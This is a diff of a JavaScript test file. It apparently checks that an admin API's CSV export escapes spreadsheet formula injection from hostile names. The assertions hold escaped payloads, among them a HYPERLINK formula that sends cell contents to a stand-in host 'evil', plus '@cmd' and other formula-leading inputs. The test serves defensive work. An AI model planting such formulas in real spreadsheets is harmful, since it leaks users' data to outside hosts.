@@ -89,7 +89,7 @@ describe('the admin API given hostile names', () => {
     }, 'the requests in the export');
     expect(text).toContain(`,"'=HYPERLINK(""http://evil/?""&A1,""x"")",`);
     for (const cell of [`"'+SUM(1,2)"`, `"'-2+3"`, `"'@cmd"`, `"'\tx"`, `"'\rx"`]) expect(text).toContain(`,${cell},`);
-    expect(text).toMatch(/\n[^,\n]+,"'-2-3",alice,,acme,m-1,chat,chat,200,,\d+,\d+,\d+,\d+,false,,?/);
+    expect(text).toMatch(/\n[^,\n]+,"'-2-3",alice,,acme,,m-1,chat,chat,200,,\d+,\d+,\d+,\d+,false,,?/);
     expect(text).toContain(',plain-model,chat,chat,404,model_not_found,0,0,0,0,false,');
     // No cell of the export begins with a formula character outside quotes.
     for (const line of text.split('\n').filter((l) => l !== '')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@\t\r]/);
